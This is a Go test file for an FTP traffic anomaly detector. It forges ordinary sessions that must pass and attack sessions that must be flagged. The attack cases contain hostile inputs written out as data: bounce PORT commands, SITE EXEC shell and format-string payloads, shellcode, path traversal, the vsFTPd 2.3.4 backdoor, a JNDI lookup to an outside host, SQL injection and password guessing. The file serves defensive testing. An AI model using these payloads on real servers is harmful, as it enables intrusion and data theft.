@@ -1,0 +1,318 @@
+// Sessions as they occur, with the verdict that a specialist would give.
+
+package baseline
+
+import (
+	"bytes"
+	"fmt"
+	"strings"
+	"testing"
+	"time"
+
+	"ftplab/lab/analysis/trace"
+)
+
+// ordinary sessions of ordinary clients and servers, however badly recorded, are
+// never called abnormal. The verdict that each gets is given.
+var ordinary = []struct {
+	name string
+	want Verdict
+	play func(*forge)
+}{
+	{"a listing and a download", IsNormal, func(f *forge) {
+		transfer(0, "LIST", answerer, 55)(f)
+		transfer(0, "RETR a", answerer, 5000)(f)
+	}},
+	{"one packet of a session", IsNormal, func(f *forge) { f.overhear(aClient, aServer+":21").say("< 230 in") }},
+	{"the middle of a session", IsNormal, func(f *forge) {
+		f.overhear(aClient, aServer+":21").say("< 250 ok\n> PORT 198,51,100,100,12,100\n< 200 ok\n> RETR a\n< 150 here\n< 226 done\n> CWD /")
+	}},
+	{"the server's half of a session", IsNormal, func(f *forge) {
+		f.overhear(aClient, aServer+":21").say("< 220 ready\n< 331 go on\n< 230 in\n< 215 UNIX\n< 227 (192,0,2,21,100,0)\n< 150 here\n< 226 done\n< 221 bye")
+	}},
+	{"the client's half of a session", IsNormal, func(f *forge) {
+		f.overhear(aClient, aServer+":21").say("> USER ada\n> PASS x\n> SYST\n> PASV\n> LIST\n> QUIT")
+	}},
+	{"a session with a hole", IsNormal, func(f *forge) {
+		t := f.control().say(hello)
+		t.seq[answerer] += 300
+		t.seq[opener] += 100
+		t.say("< 226 done\n> PWD\n< 257 \"/\"").say(bye).close(answerer)
+	}},
+	{"every packet twice", IsNormal, func(f *forge) {
+		t := f.control()
+		for _, line := range strings.Split(strings.TrimSpace(hello+bye), "\n") {
+			line = strings.TrimSpace(line)
+			side := strings.IndexByte("><", line[0])
+			at := t.seq[side]
+			t.say(line)
+			t.again(side, at, line[2:]+"\r\n")
+		}
+	}},
+	{"a reply stored before its command", IsNormal, func(f *forge) {
+		t := f.control().say(hello)
+		c, s := t.seq[opener], t.seq[answerer]
+		t.seq[opener] += 5 // the reply acknowledges the command
+		t.send(answerer, "257 \"/\"\r\n")
+		t.packet(t.ends[0], t.ends[1], c, s, trace.PSH|trace.ACK, "PWD\r\n")
+		t.say("> NOOP\n< 200 ok").say(bye).close(answerer)
+	}},
+	{"a client behind a translator", IsNormal, session1("> PORT 10,0,0,7,31,64\n< 200 ok\n> LIST\n< 425 cannot reach you")},
+	{"a client whose PORT is refused", IsNormal, session1("> PORT 10,0,0,7,31,64\n< 500 illegal PORT")},
+	{"a server behind a translator", IsNormal, session1("> PASV\n< 227 (10,0,0,21,100,0)\n> LIST\n< 150 here\n< 226 done")},
+	{"a translator that rewrites PORT", IsNormal, func(f *forge) {
+		t := f.control().say(hello).say("> PORT 203,0,113,9,12,100\n< 200 ok\n> LIST\n< 150 here")
+		f.download(aServer+":20", aClient+":3172", opener, 55)
+		t.say("< 226 done").say(bye).close(answerer)
+	}},
+	{"a site with many data servers", IsUnusual, session1("> PASV\n< 227 (192,0,2,33,100,0)\n> LIST\n< 150 here\n< 226 done")},
+	{"a client in a container", IsUnusual, func(f *forge) {
+		f.dial("172.17.0.1", "172.17.0.2:21").say(hello).say("> PORT 192,168,0,5,200,1\n< 200 ok\n> LIST\n< 150 here\n< 226 done").say(bye).close(answerer)
+	}},
+	{"a load generator", IsNormal, func(f *forge) {
+		t := f.control().say(hello)
+		for i := range 70 {
+			t.say(fmt.Sprintf("> PORT 198,51,100,100,%d,99\n< 200 ok\n> RETR /default.txt\n< 125 here (5 bytes)\n< 226 done", 20+i))
+		}
+	}},
+	{"a client that keeps its session alive", IsNormal, func(f *forge) {
+		t := f.control().say(hello)
+		for range 100 {
+			f.pass(30 * time.Second)
+			t.say("> NOOP\n< 200 ok")
+		}
+	}},
+	{"Explorer, which asks again and again", IsNormal, session1(strings.Repeat("> noop\n< 200 ok\n> CWD /pub/\n< 250 ok\n> CWD /pub/\n< 250 ok\n> PWD\n< 257 \"/pub\"\n> TYPE A\n< 200 A\n", 10))},
+	{"deleting many files", IsNormal, session1(strings.Repeat("> DELE a\n< 250 ok\n> DELE b\n< 550 no\n", 60))},
+	{"a deep walk of a script", IsNormal, session1(strings.Repeat("> CWD sub\n< 250 ok\n", 12) + strings.Repeat("> CDUP\n< 250 ok\n", 12))},
+	{"a client that saves round trips", IsUnusual, session1("> TYPE I\n+ SIZE a\n+ MDTM a\n+ PASV\n< 200 ok\n+ 213 100\n+ 213 20200101000000\n+ 227 (192,0,2,21,100,0)")},
+	{"AUTH refused", IsNormal, dialogue("< 220 ready\n> AUTH TLS\n< 530 log in first\n> AUTH SSL\n< 530 log in first\n> USER ada\n< 331 and?\n> PASS x\n< 230 in")},
+	{"AUTH accepted", IsNormal, func(f *forge) {
+		t := f.control().say("< 220 ready\n> AUTH TLS\n< 234 go ahead")
+		t.send(opener, "\x16\x03\x01\x00\x20client hello, random bytes 1234")
+		t.send(answerer, "\x16\x03\x03\x00\x20server hello, random bytes 5678")
+		t.send(opener, "\x17\x03\x03\x00\x10QUIT or the like")
+		t.close(opener)
+	}},
+	{"protected by Kerberos", IsNormal, dialogue("< 220 ready\n> AUTH GSSAPI\n< 334 go ahead\n> ADAT " + strings.Repeat("YII", 600) + "\n< 235 ADAT=" + strings.Repeat("YII", 60) + "\n> MIC " + strings.Repeat("VVNF", 200) + "\n< 631 " + strings.Repeat("MjMw", 30) + "\n> ENC " + strings.Repeat("UVVJ", 200) + "\n< 632 MjIx")},
+	{"no password asked", IsNormal, dialogue("< 220 ready\n> USER ftp\n< 230-NOTICE\n+ 230-more of it\n+ 230\n> SYST\n< 215 UNIX\n> QUIT\n< 221")},
+	{"two greetings and two welcomes", IsNormal, dialogue("< 220 proxy ready\n+ 220 server ready\n> USER ada\n< 331 go on\n> PASS x\n< 230 in\n+ 230 restrictions apply\n> QUIT\n< 221 bytes\n+ 221 bye")},
+	{"ready in a minute", IsNormal, dialogue("< 120 soon\n< 220 ready\n> USER ada\n< 331 go on\n> PASS x\n< 230 in")},
+	{"no room", IsNormal, dialogue("< 421 too many users")},
+	{"a server of an unusual make", IsUnusual, session1("> RNFR a\n< 350 ok\n> RNTO b\n< 257 ok\n> NOOP\n< 213 0\n> FEAT\n< 250 none")},
+	{"a mistyped password", IsNormal, dialogue("< 220 hi\n> USER ada\n< 331 and?\n> PASS oops\n< 530 no\n> USER ada\n< 331 and?\n> PASS secret\n< 230 in")},
+	{"a browser that asks with the same password", IsNormal, func(f *forge) {
+		for range 5 {
+			f.control().say("< 220 hi\n> USER anonymous\n< 331 and?\n> PASS chrome@example.com\n< 530 no\n> QUIT\n< 221 bye").close(opener)
+		}
+	}},
+	{"an aborted download", IsNormal, func(f *forge) {
+		t := f.control().say(hello).say("> PASV\n< 227 (192,0,2,21,100,0)\n> RETR a\n< 150 here")
+		d := f.dial(aClient, aServer+":25600")
+		d.send(answerer, "the beginning")
+		t.send(opener, "\xff\xf4\xff\xf2ABOR\r\n")
+		d.fin(opener)
+		d.reset(answerer)
+		t.say("< 426 broken off\n< 226 aborted").say(bye).close(answerer)
+	}},
+	{"a download taken up again", IsNormal, func(f *forge) {
+		t := f.control().say(hello).say("> TYPE I\n< 200 ok\n> SIZE a\n< 213 1000\n> PASV\n< 227 (192,0,2,21,100,0)\n> REST 900\n< 350 ok\n> RETR a\n< 150 opening (1000 bytes)")
+		f.download(aClient, aServer+":25600", answerer, 100)
+		t.say("< 226 done").say(bye).close(answerer)
+	}},
+	{"a command that nobody knows", IsNormal, session1("> CLNT some client 1.0\n< 500 what?\n> site help\n< 550 no\n> opts utf8 on\n< 200 ok\n> LPRT 6,16,1\n< 500 no")},
+	{"another port", IsNormal, func(f *forge) {
+		f.dial(aClient, aServer+":2121").say(hello).say("> EPSV\n< 229 (|||40000|)\n> LIST -a\n< 150 here\n< 226 done").say(bye).close(answerer)
+	}},
+	{"IPv6", IsNormal, func(f *forge) {
+		t := f.dial("2001:db8::7", "[2001:db8:1::21]:21").say(hello).say("> EPRT |2|2001:db8::7|5000|\n< 200 ok\n> LIST\n< 150 here")
+		f.download("[2001:db8:1::21]:20", "[2001:db8::7]:5000", opener, 55)
+		t.say("< 226 done").say(bye).close(answerer)
+	}},
+	{"blank lines that the server ignores", IsUnusual, func(f *forge) {
+		t := f.control().say(hello)
+		t.send(opener, "\r\n")
+		t.say("> PWD\n< 257 \"/\"\n> PASV\n< 227 (192,0,2,21,100,0)\n> LIST\n< 150 here\n< 226 done").say(bye).close(answerer)
+	}},
+	{"a NOOP that is never answered", IsUnusual, session1("> PASV\n< 227 (192,0,2,21,100,0)\n> RETR a\n< 150 here\n> NOOP\n< 226 done\n> PWD\n< 257 \"/\"\n> PASV\n< 227 (192,0,2,21,100,0)\n> LIST\n< 150 here\n< 226 done")},
+	{"a transfer broken off without ABOR", IsNormal, session1("> PASV\n< 227 (192,0,2,21,100,0)\n> RETR a\n< 150 here\n< 426 broken off\n< 226 aborted")},
+	{"226 twice, the second one late", IsUnusual, session1("> PASV\n< 227 (192,0,2,21,100,0)\n> RETR a\n< 150 here\n< 226 done\n> PWD\n< 226 done indeed\n< 257 \"/\"")},
+	{"typed by hand, with slips of the finger", IsNormal, session1("> PWX\b\b\b\b\bPWD\n< 500 what?\n> PWD\n< 257 \"/\"\n> TPYE\n< 500 what?")},
+	{"names in Russian, as Windows wrote them", IsNormal, session1("> CWD \xcc\xee\xff \xcd\xee\xe2\xe0\xff \xd1\xf2\xe0\xf2\xfc\xff \xff\xff\n< 250 ok\n> RETR \xff\xe1\xeb\xee\xea\xee \xff.txt\n< 550 no")},
+	{"a passive port below 1024 that works", IsUnusual, session1("> PASV\n< 227 (192,0,2,21,0,20)\n> LIST\n< 150 here\n< 226 done")},
+	{"features without a hyphen", IsUnusual, session1("> FEAT\n< 211 Features:\n+  EPSV\n+ PASV\n+ 211 End")},
+	{"secrets that do not look like TLS", IsNormal, func(f *forge) {
+		t := f.control().say("< 220 ready\n> AUTH TLS\n< 234 go ahead")
+		for range 40 {
+			t.send(opener, "\x80\x01\x02\x03\x04\x05 secret \n secrets of forty bytes and more \x90\x90\x90\x90\x90\x90\x90\x90\r\n")
+			t.send(answerer, "QUIT\r\n \x05\x06 other secrets\r\n")
+		}
+	}},
+	{"a knock at a closed port", IsUnusual, func(f *forge) {
+		t := f.overhear(aClient, aServer+":21")
+		t.packet(t.ends[0], t.ends[1], 1000, 0, trace.SYN, "")
+		t.packet(t.ends[1], t.ends[0], 0, 1001, trace.RST|trace.ACK, "")
+	}},
+}
+
+// attacks are what must be caught, and the rule that a specialist would name.
+var attacks = []struct {
+	name, rule string
+	play       func(*forge)
+}{
+	{"a bounce to a mail server", "own-address", session1("> PORT 203,0,113,25,0,25\n< 200 ok\n> RETR letter\n< 150 here\n< 226 done")},
+	{"a bounce scan", "own-address", session1("> PORT 192,0,2,80,0,80\n< 200 ok\n> LIST\n< 425 no\n> PORT 192,0,2,81,31,144\n< 200 ok\n> LIST\n< 226 done")},
+	{"a bounce to a neighbour", "own-address", func(f *forge) {
+		f.dial("10.1.1.5", "10.1.2.9:21").say(hello).say("> PORT 10,1,1,6,31,64\n> QUIT\n< 221 bye").close(opener)
+	}},
+	{"a test of the bounce", "own-address", func(f *forge) {
+		f.dial("192.168.1.5", "192.168.1.9:21").say(hello).say("> PORT 203,0,113,62,80,80\n< 200 ok\n> QUIT\n< 221 bye").close(opener)
+	}},
+	{"five hundred PORTs", "own-address", func(f *forge) {
+		t := f.dial("10.0.0.1", "10.0.0.2:21").say("< 220 ready")
+		for i := range 500 {
+			t.say(fmt.Sprintf("> PORT 10,0,0,200,%d,%d", 80+i/256, i%256))
+		}
+	}},
+	{"all commands before the greeting", "server-greets-first", dialogue("> USER a\n> PASS b\n> SYST\n> QUIT\n< 220 ready\n< 331 x\n< 230 x\n< 215 x\n< 221 x")},
+	{"a server that quits", "sides-keep-their-roles", dialogue("< 220 ready\n> USER u\n< 331 x\n> PASS p\n< 230 in\n> EPRT |1|198.51.100.100|5000|\n< 200 ok\n< QUIT\n< 221 bye")},
+	{"a server that logs in", "sides-keep-their-roles", dialogue("< 220 ready\n> USER u\n< USER u\n> PASS p\n< PASS p\n< 230 in")},
+	{"an answer in front of its question", "reply-answers-command", func(f *forge) {
+		t := f.control().say("< 220 ready\n> USER a")
+		t.send(answerer, "331 ok\r\n550 BBBB")
+		t.say("> PWD")
+		t.send(answerer, "CCCC\r\n226 done\r\n")
+	}},
+	{"answers to another dialogue", "reply-fits-command", dialogue("< 220 ready\n> USER a\n< 331 ok\n+ 550 no\n> PWD\n< 226 done")},
+	{"a welcome before the password", "reply-answers-command", dialogue("< 220 ready\n> USER a\n< 331 ok\n< 230 in\n> PASS x")},
+	{"a name that overflows", "arguments-of-normal-length", session1("> RETR " + strings.Repeat("A", 4000) + "\n< 550 no")},
+	{"a user that overflows", "arguments-of-normal-length", dialogue("< 220 ready\n> USER " + strings.Repeat("Aa0", 100) + "\n< 331 go on")},
+	{"a verb that overflows", "arguments-of-normal-length", session1("> TYP" + strings.Repeat("E", 120) + " I\n< 200 ok")},
+	{"a PORT that is none", "announcement-well-formed", dialogue("< 220 ready\n> PORT AAAAAAAAAAAAAAAAAAAAAAAAAAA\n+ QUIT\n< 221 bye")},
+	{"an answer without a code", "reply-well-formed", session1("> SYST\n< SYST not supported")},
+	{"a code without a blank", "reply-well-formed", session1("> RETR a\n< 230_no_space")},
+	{"a reply that overflows", "reply-of-normal-length", session1("> PASV\n< 227 " + strings.Repeat("A", 9000))},
+	{"SSH", "ftp-at-the-ftp-port", ruleTests["ftp-at-the-ftp-port"].breaks},
+	{"a binary protocol", "ftp-at-the-ftp-port", func(f *forge) {
+		t := f.control()
+		t.send(opener, "\x01\x00\x00\x00\x10\x00\x00\x00beacon\x00\x01")
+		t.send(answerer, "\x02\x00\x00\x00\x08\x00\x00\x00")
+		t.close(opener)
+	}},
+	{"a web request", "commands-are-ftp", dialogue("< 220 ready\n> GET / HTTP/1.1\n+ Host: x\n< 500 what?\n< 500 what?")},
+	{"SITE EXEC", "no-known-exploits", session1("> SITE EXEC /bin/sh -c id\n< 200 ok")},
+	{"memory read by SITE EXEC", "no-format-strings", session1("> SITE EXEC %.f%.f%.f%.f|%p\n< 200 x")},
+	{"machine code", "arguments-are-text", session1("> MKD " + strings.Repeat("\x90", 100) + "\x31\xc0\x31\xdb\xcd\x80/bin/sh\n< 550 no")},
+	{"a traversal", "no-climbing", session1("> RETR ../../../../../../etc/passwd\n< 150 here\n< 226 done")},
+	{"a traversal in disguise", "no-climbing", session1("> RETR ..%5c..%5cboot.ini\n< 550 no")},
+	{"a traversal with dots", "no-climbing", session1("> CWD ..../..../windows\n< 250 ok\n> RETR .../.../x\n< 550 no")},
+	{"the smiley", "no-known-exploits", func(f *forge) {
+		t := f.control().say("< 220 (vsFTPd 2.3.4)\n> USER letmein:)\n< 331 go on\n> PASS x")
+		f.dial(aClient, aServer+":6200").say("> id\n< uid=0(root)").close(opener)
+		t.reset(opener)
+	}},
+	{"a look-up", "no-known-exploits", dialogue("< 220 ready\n> USER ${jndi:ldap://203.0.113.66/a}\n< 331 go on")},
+	{"injected SQL", "no-known-exploits", dialogue("< 220 ready\n> USER %') and 1=2 union select 1,1,uid,gid from ftp; --\n< 331 go on\n> PASS 1\n< 230 in")},
+	{"loot", "no-known-exploits", session1("> PASV\n< 227 (192,0,2,21,100,0)\n> STOR PW_admin-DESKTOP-1_2023_01_31_12_00_00.html\n< 150 here\n< 226 done")},
+	{"a dictionary in one session", "no-guessing", func(f *forge) {
+		t := f.control().say("< 220 hi")
+		for i := range 12 {
+			f.pass(10 * time.Second)
+			t.say(fmt.Sprintf("> USER admin\n< 331 and?\n> PASS pw%d\n< 530 no", i))
+		}
+	}},
+	{"a dictionary that finds the word", "no-guessing", func(f *forge) {
+		for i := range 7 {
+			f.control().say(fmt.Sprintf("< 220 hi\n> USER admin\n< 331 and?\n> PASS pw%d\n< 530 no", i)).close(opener)
+		}
+		f.control().say(hello)
+	}},
+	{"a dictionary of which the answers are seen", "no-guessing", func(f *forge) {
+		for range 12 {
+			f.overhear(aClient, aServer+":21").say("< 530 no")
+		}
+	}},
+	{"a dictionary without its answers", "no-guessing", func(f *forge) {
+		for i := range 12 {
+			f.overhear(aClient, aServer+":21").say(fmt.Sprintf("> USER admin\n> PASS pw%d", i))
+		}
+	}},
+	{"a sweep", "calls-are-meant", func(f *forge) {
+		knocks(f, 30, func(i int) string { return fmt.Sprintf("192.0.2.%d", i+1) })
+	}},
+	{"a bounce to a host inside", "own-address", func(f *forge) {
+		t := f.dial("203.0.113.5", "10.0.0.2:21").say(hello).say("> PORT 10,0,0,200,31,64\n< 200 ok\n> RETR letter\n< 150 here")
+		f.download("10.0.0.2:20", "10.0.0.200:8000", opener, 500)
+		t.say("< 226 done").say(bye).close(answerer)
+	}},
+	{"CWD for ever", "no-floods", func(f *forge) {
+		f.overhear(aClient, aServer+":21").say("< 220 hi\n> USER a\n< 331 and?\n> PASS b\n< 230 in\n" + strings.Repeat("> CWD /\n< 250 ok\n", 10) + "> QUIT\n< 221 bye")
+	}},
+	{"ports used up", "announcement-used", session1(strings.Repeat("> PASV\n< 227 (192,0,2,21,100,0)\n", 30))},
+	{"a stolen download", "data-with-the-partner", ruleTests["data-with-the-partner"].breaks},
+	{"a shell on a data connection", "data-flows-one-way", ruleTests["data-flows-one-way"].breaks},
+	{"commands out of two captures", "retransmission-repeats", func(f *forge) {
+		t := f.overhear(aClient, aServer+":21")
+		t.send(opener, "USER one\r\n")
+		t.again(opener, 1001, "FEAT two\r\n")
+		t.send(answerer, "250 ok\r\n")
+		t.again(answerer, 2001, "226 no\r\n")
+	}},
+}
+
+func TestOrdinary(t *testing.T) {
+	for _, test := range ordinary {
+		t.Run(test.name, func(t *testing.T) {
+			if got := forged(t, test.play); got.Verdict != test.want {
+				t.Errorf("got %v\nwant %s", got, test.want)
+			}
+		})
+	}
+}
+
+func TestAttacks(t *testing.T) {
+	for _, test := range attacks {
+		t.Run(test.name, func(t *testing.T) {
+			got := forged(t, test.play)
+			if got.Verdict != NotNormal || count(got, test.rule, Violation) == 0 {
+				t.Errorf("got %v\nwant %s, for %s", got, NotNormal, test.rule)
+			}
+		})
+	}
+}
+
+// TestCutOff cuts every ordinary session off after each of its packets, and lets
+// it begin at each: none of that makes it abnormal.
+func TestCutOff(t *testing.T) {
+	for _, test := range ordinary {
+		t.Run(test.name, func(t *testing.T) {
+			f := newForge()
+			test.play(f)
+			packets := split(f.file.Bytes())
+			step := 1 + len(packets)/40
+			for i := 0; i <= len(packets); i += step {
+				for _, part := range [][][]byte{packets[:i], packets[i:]} {
+					file := append(bytes.Clone(f.file.Bytes()[:24]), bytes.Join(part, nil)...)
+					e, err := Read(bytes.NewReader(file))
+					if err != nil {
+						t.Fatal(err)
+					}
+					if got := e.Check(nil); got.Verdict == NotNormal {
+						t.Errorf("cut at packet %d of %d: got %v", i, len(packets), got)
+					}
+				}
+			}
+		})
+	}
+}
+
+// split cuts a forged capture into its records.
+func split(file []byte) [][]byte {
+	var records [][]byte
+	for rest := file[24:]; len(rest) > 0; {
+		n := 16 + int(uint32(rest[8])|uint32(rest[9])<<8|uint32(rest[10])<<16)
+		records = append(records, rest[:n])
+		rest = rest[n:]
+	}
+	return records
+}
